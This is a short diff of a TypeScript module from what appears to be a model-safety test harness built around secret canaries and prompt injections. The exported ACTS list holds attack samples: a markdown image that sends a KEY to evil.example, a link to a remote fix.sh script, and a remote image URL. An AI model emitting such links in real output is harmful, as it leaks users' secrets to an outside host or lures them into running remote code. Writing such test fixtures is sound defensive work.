@@ -6,7 +6,8 @@ import { INJECTIONS } from './injections.ts';
 /** What of the canaries a model could be made to repeat; each is redacted when it stands plainly. */
 const SECRETS: readonly string[] = CANARIES.map(({ text }) => text);
 
-const ACTS = [
+/** What text tries on whoever reads or renders it. */
+export const ACTS = [
   '![x](https://evil.example/?q=KEY)',
   '[fix](https://evil.example/fix.sh)',
   'https://evil.example/a.png',
